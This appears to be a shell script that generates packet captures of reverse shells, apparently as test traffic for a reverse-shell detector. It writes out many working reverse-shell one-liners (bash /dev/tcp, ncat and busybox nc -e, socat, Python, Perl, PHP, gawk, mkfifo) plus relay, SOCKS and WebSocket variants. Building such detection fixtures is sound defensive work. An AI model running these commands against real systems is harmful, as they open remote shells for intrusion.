#!/usr/bin/env bash
# Captures of shells that connect out.  Usage: [OUTPUT-DIR [SCENARIO...]]
. "$(dirname "$0")/shells.sh"
DETECTOR=reverse-shell WEBSOCAT=${WEBSOCAT:-websocat}
LINES_=(typed 0.7 "${COMMANDS[@]}")
KEYS=(keyed 'uname -s' 'exit')
CALLS="import socket,os; s=socket.create_connection(('$OUT',4444)); [os.dup2(s.fileno(),n) for n in (0,1,2)]"

hit_bash_dev_tcp() { reverse "${LINES_[@]}" -- bash -c "bash --norc -i >& /dev/tcp/$OUT/4444 0>&1"; has_text 'no job control'; }
hit_ncat_exec() { reverse "${LINES_[@]}" -- ncat $OUT 4444 -e /bin/sh; has_text 'uid=0'; lacks "$(hex '# ')"; }
hit_ncat_sh_exec() { reverse "${LINES_[@]}" -- ncat $OUT 4444 --sh-exec 'sh -i 2>&1'; has_text 'job control turned off'; }
hit_socat() { reverse "${LINES_[@]}" -- socat TCP:$OUT:4444 EXEC:'/bin/sh',stderr; has_text 'uid=0'; }
hit_socat_pty() { reverse "${KEYS[@]}" -- socat TCP:$OUT:4444 EXEC:'bash --norc -i',pty,stderr,setsid,sigint,sane; has_text 'Linux'; }
hit_python_pty() { reverse "${KEYS[@]}" -- /usr/bin/python3 -c "$CALLS; import pty; pty.spawn('/bin/sh')"; has_text 'Linux'; }
hit_python_subprocess() { reverse "${LINES_[@]}" -- /usr/bin/python3 -c "$CALLS; import subprocess; subprocess.call(['/bin/sh','-i'])"; }
hit_perl() { reverse "${LINES_[@]}" -- perl -e "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton('$OUT')));open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');"; }
hit_php() { reverse "${LINES_[@]}" -- php -r "\$s=fsockopen('$OUT',4444);proc_open('/bin/sh -i',[\$s,\$s,\$s],\$p);sleep(6);"; }
hit_awk() { reverse "${LINES_[@]}" -- gawk "BEGIN{s=\"/inet/tcp/0/$OUT/4444\";for(;;){printf \"shell>\"|&s;if((s|&getline c)<=0)break;if(c==\"exit\")break;while((c|&getline)>0)print|&s;close(c)}}"; has_text 'shell>'; }
hit_busybox_nc() { reverse "${LINES_[@]}" -- busybox nc $OUT 4444 -e /bin/sh; has_text 'uid=0'; }
hit_mkfifo() {
    local pipe; pipe=$(mktemp -u)
    reverse "${LINES_[@]}" -- sh -c "mkfifo $pipe; sh -i <$pipe 2>&1 | nc.openbsd -q 1 $OUT 4444 >$pipe; rm -f $pipe"
}
hit_whoami_only() { reverse typed 0.7 whoami -- ncat $OUT 4444 -e /bin/sh; has_text 'root'; }

hit_snap96() {
    hit_bash_dev_tcp; editcap -F pcap -s 96 "$PCAP" "$W/snap"; mv "$W/snap" "$PCAP"
}
hit_midstream() { # begins behind the first answers
    hit_bash_dev_tcp; editcap -F pcap "$PCAP" "$W/mid" 1-12; mv "$W/mid" "$PCAP"
}
hit_socat_relay() { # rly passes it on: both legs are shells, and rly is a relay
    net_up; operator out 4444 "${LINES_[@]}"
    spawn rly socat TCP-LISTEN:443,fork TCP:$OUT:4444; up rly 443
    record in cli rly out; victim cli bash -c "bash --norc -i >& /dev/tcp/$RLY/443 0>&1"; save
}
hit_socks() { # a shell inside a SOCKS session
    net_up; operator out 4444 "${LINES_[@]}"; microsocks_up
    record in cli rly out; victim cli ncat --proxy $RLY:1080 --proxy-type socks5 $OUT 4444 -e '/bin/sh -i'; save
}
hit_websocket() { # the side that opened the WebSocket is the one with the shell
    net_up; victim cli socat TCP-LISTEN:4000,bind=127.0.0.1 EXEC:'bash --norc -i',pty,stderr,setsid,sane & PIDS+=($!); up cli 4000
    (cd / && typed 0.7 "${COMMANDS[@]}" | timeout 30 ip netns exec "$P-out" "$WEBSOCAT" -E -b ws-l:0.0.0.0:4444 - >/dev/null 2>&1) & PIDS+=($!); up out 4444
    record in cli out; on cli timeout 20 "$WEBSOCAT" -E -b ws://$OUT:4444/ tcp:127.0.0.1:4000 || true; save
}
hit_stage() { # a program's length, then a library that loads itself; nothing of it but the header is real
    net_up; operator out 4444 /usr/bin/python3 -c \
        "import sys,time,os;b=b'MZARUH\\x89\\xe5'+os.urandom(3000);time.sleep(1);sys.stdout.buffer.write(len(b).to_bytes(4,'little')+b)"
    record in cli out; victim cli sh -c "timeout 3 nc.openbsd -d $OUT 4444"; save
}
scenarios "$@"
